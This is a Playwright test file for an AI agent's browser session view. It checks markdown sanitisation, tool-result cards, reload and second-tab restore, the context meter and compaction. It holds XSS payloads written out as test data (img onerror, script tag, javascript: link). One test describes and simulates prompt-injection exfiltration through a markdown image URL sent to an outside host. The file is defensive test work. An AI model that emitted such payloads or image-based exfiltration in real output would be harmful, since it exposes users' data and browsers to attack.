"""The session view as a user reads it in Chromium: the model's answer rendered as markdown and sanitised (a tag in
the answer never runs), each tool card with the result the model got, and the conversation restored from the
session's record on a reload and in a second tab, which then follows the session live."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect
from tests.servers.model_server import ScriptedModelServer
from tests.web_browser._browser import Gui, screenshot

pytestmark = pytest.mark.timeout(240)

KEY = "sk-test-0123456789abcdef"
# an answer as a model may write it: markdown, and HTML that must stay text (it would set the marker if it ran)
ANSWER = (
    "The notes say **alpha** first, then `second`.\n\n"
    "```python\nprint('from a fence')\n```\n\n"
    "- one\n- two\n\n"
    '<img src="missing.png" onerror="window.__kairoxMarker = \'img\'"> '
    "<script>window.__kairoxMarker = 'script'</script> "
    "[a link](javascript:window.__kairoxMarker='link') and [the docs](https://example.org/docs)."
)
FILLER = "".join(f"line {n:04d} of the long notes\n" for n in range(150))  # past the card's cap


def config(home: Path, model: ScriptedModelServer) -> None:
    (home / "kairox.toml").write_text(
        'model = "scripted-model"\nmodel_provider = "scripted"\n\n'
        f'[model_providers.scripted]\nwire_api = "chat"\nbase_url = "{model.base_url}"\n'
        'api_key_env = "KAIROX_TEST_MODEL_KEY"\nmax_retries = 2\nrequest_timeout_sec = 30\n',
        encoding="utf-8",
    )


def read(call_id: str, path: str) -> dict[str, object]:
    return {
        "reply": "tool_calls",
        "text": "",
        "calls": [{"id": call_id, "name": "fs_read", "arguments": {"path": path}}],
    }


def open_session(page: Page, gui: Gui) -> None:
    page.goto(gui.url)
    page.click('[data-nav="session"]')
    expect(page.locator('[data-action="send"]')).to_be_attached(timeout=60_000)


def send(page: Page, text: str) -> None:
    page.fill("[data-composer]", text)
    expect(page.locator('[data-action="send"]')).to_be_enabled(timeout=60_000)  # the session has opened
    page.press("[data-composer]", "Enter")


def check_conversation(page: Page) -> None:
    """What the first turn left on the page, live or restored."""
    expect(page.locator('[data-role="user"]').first).to_have_text("Read both notes.")
    answer = page.locator('[data-role="assistant"]').first
    expect(answer.locator("strong")).to_have_text("alpha")
    expect(answer.locator("p code")).to_have_text("second")
    expect(answer.locator("pre code")).to_have_text("print('from a fence')\n")
    expect(answer.locator("li")).to_have_count(2)
    # the tags are text, never elements; the javascript: link is no link; the https one opens apart
    expect(answer).to_contain_text('<img src="missing.png" onerror=')
    expect(answer).to_contain_text("<script>window.__kairoxMarker = 'script'</script>")
    assert answer.locator("img, script").count() == 0
    assert answer.locator('a[href^="javascript"]').count() == 0
    docs = answer.locator('a[href="https://example.org/docs"]')
    expect(docs).to_have_attribute("rel", "noopener noreferrer")
    expect(docs).to_have_attribute("target", "_blank")
    assert page.evaluate("window.__kairoxMarker") is None
    short = page.locator('[data-call="r1"]')
    expect(short).to_have_attribute("data-state", "ok")
    expect(short.locator("[data-result]")).to_have_text("alpha-line-marker\nsecond\n")
    expect(short.locator("[data-truncated]")).to_have_count(0)
    long = page.locator('[data-call="r2"]')
    expect(long.locator("[data-result]")).to_contain_text("line 0000 of the long notes")
    assert "line 0149" not in long.locator("[data-result]").inner_text()  # capped: the card shows the start
    expect(long.locator("[data-truncated]")).to_contain_text("more characters")


def test_answers_render_as_sanitised_markdown_with_tool_results_and_survive_a_reload_and_a_second_tab(
    workspace: Path, isolated_home: Path, gui_factory: Callable[..., Gui], page: Page, browser: BrowserContext
) -> None:
    (workspace / "notes.txt").write_text("alpha-line-marker\nsecond\n", encoding="utf-8")
    (workspace / "long.txt").write_text(FILLER, encoding="utf-8")
    script = [
        read("r1", "notes.txt"),
        {**read("r2", "long.txt"), "expect": {"tool_results": {"r1": "alpha-line-marker"}}},
        {"reply": "text", "text": ANSWER, "delay_sec": 0.05, "expect": {"tool_results": {"r2": "line 0149"}}},
        {"reply": "text", "text": "A second answer, with *emphasis*.", "delay_sec": 0.05},
    ]
    with ScriptedModelServer("openai", script) as model:
        config(isolated_home, model)
        gui = gui_factory(workspace, {"KAIROX_TEST_MODEL_KEY": KEY})
        open_session(page, gui)
        send(page, "Read both notes.")
        expect(page.locator('[data-role="assistant"]').first.locator("strong")).to_have_text("alpha", timeout=60_000)
        expect(page.locator('[data-action="send"]')).to_be_visible()  # the turn ended
        check_conversation(page)
        page.locator('[data-role="assistant"]').first.scroll_into_view_if_needed()
        screenshot(page, "session-markdown")

        # a reload: the conversation comes back from the session, decisions and durations included
        page.reload()
        expect(page.locator('[data-role="assistant"]')).to_have_count(1)
        check_conversation(page)
        expect(page.locator('[data-call="r1"] [data-decision]')).to_have_text("allow")
        expect(page.locator('[data-call="r1"] [data-summary]')).to_contain_text("ok in")

        # a second tab shows the same conversation, then follows what the first one sends
        other = browser.new_page()
        errors: list[str] = []
        other.on("pageerror", lambda error: errors.append(str(error)))
        other.goto(gui.origin + "/session")
        expect(other.locator('[data-role="assistant"]')).to_have_count(1)
        check_conversation(other)
        send(page, "And once more.")
        for tab in (page, other):
            expect(tab.locator('[data-role="user"]')).to_have_count(2)
            expect(tab.locator('[data-role="user"]').last).to_have_text("And once more.")
            expect(tab.locator('[data-role="assistant"]').last.locator("em")).to_have_text("emphasis")
            expect(tab.locator('[data-action="send"]')).to_be_visible()  # the turn ended, in both tabs
        screenshot(other, "session-second-tab")
        assert other.evaluate("window.__kairoxMarker") is None
        other.close()
        assert errors == []


def test_the_session_shows_the_context_meter_the_tool_definitions_warning_and_a_compaction(
    workspace: Path, isolated_home: Path, gui_factory: Callable[..., Gui], page: Page
) -> None:
    summary = "SUMMARY: the user asked twice; both answers were given."
    script = [
        {"reply": "text", "text": "A long first answer. " * 120},
        {"reply": "text", "text": "Second answer."},
        {"reply": "text", "text": summary},
    ]
    with ScriptedModelServer("openai", script) as model:
        config(isolated_home, model)
        with (isolated_home / "kairox.toml").open("a", encoding="utf-8") as file:
            # a small window, so the page shows the meter moving, the warning and a compaction
            file.write("context_window = 6000\n\n[agent]\ncompact_keep_turns = 1\ntools_warning_share = 0.1\n")
            file.write('\n[tools]\nsearch_threshold = "off"\n')
        gui = gui_factory(workspace, {"KAIROX_TEST_MODEL_KEY": KEY})
        open_session(page, gui)
        meter = page.locator("[data-context-meter]")
        expect(meter).to_contain_text("/6k", timeout=60_000)
        before = meter.inner_text()
        expect(page.locator("[data-context-warning]")).to_contain_text("agent.tools_warning_share")
        send(page, "First question")
        expect(page.locator('[data-role="assistant"]')).to_have_count(1, timeout=60_000)
        expect(page.locator('[data-action="send"]')).to_be_visible(timeout=60_000)
        expect(meter).not_to_have_text(before)  # the answer's tokens are counted
        send(page, "Second question")
        expect(page.locator('[data-role="assistant"]')).to_have_count(2, timeout=60_000)
        expect(page.locator('[data-action="send"]')).to_be_visible(timeout=60_000)
        full = meter.inner_text()
        page.click('[data-action="compact"]')
        notice = page.locator("[data-compaction]")
        expect(notice).to_contain_text("compacted: 2 messages summarised, 2 kept", timeout=60_000)
        expect(meter).not_to_have_text(full)  # measured again after the summary replaced the older turns
        screenshot(page, "session-context")
    assert before.startswith("context ~") and full.startswith("context ") and "~" not in full  # usage, not a guess


def test_a_remote_image_in_an_answer_is_a_link_and_nothing_is_fetched(
    workspace: Path, isolated_home: Path, gui_factory: Callable[..., Gui], page: Page
) -> None:
    """Y15: an answer holding ``![x](http://HOST/x.png?d=...)`` (an injected prompt's way to send out what the model
    read) shows a link the person may open; the page fetches nothing from elsewhere, by its rendering and by its
    Content-Security-Policy, which every answer of the server carries."""
    import http.server
    import threading

    seen: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    elsewhere = f"http://127.0.0.1:{listener.server_address[1]}"
    answer = f"Done. ![chart]({elsewhere}/x.png?d=secret-notes) and <img src='{elsewhere}/raw.png'>"
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text) if "Content Security" in message.text else None)
    try:
        with ScriptedModelServer("openai", [{"reply": "text", "text": answer, "delay_sec": 0.05}]) as model:
            config(isolated_home, model)
            gui = gui_factory(workspace, {"KAIROX_TEST_MODEL_KEY": KEY})
            response = page.goto(gui.url)
            assert response is not None
            policy = response.headers["content-security-policy"]
            assert "default-src 'self'" in policy and "img-src 'self' data:" in policy
            assert "connect-src 'self'" in policy and "frame-ancestors 'none'" in policy
            assert "unsafe-inline" not in policy
            page.click('[data-nav="session"]')
            send(page, "Draw it.")
            reply = page.locator('[data-role="assistant"]').first
            expect(reply.locator("[data-remote-image]")).to_have_text("[image: chart]", timeout=60_000)
            expect(reply.locator("[data-remote-image]")).to_have_attribute("href", f"{elsewhere}/x.png?d=secret-notes")
            assert reply.locator("img").count() == 0
            # the page itself tries: the policy refuses a load from elsewhere as well, and says so
            with page.expect_console_message(lambda message: "by-script.png" in message.text):
                page.evaluate(f"new Image().src = '{elsewhere}/by-script.png'")
            expect(page.locator('[data-action="send"]')).to_be_visible()
    finally:
        listener.shutdown()
    assert seen == []
    assert any("by-script.png" in v for v in violations), violations
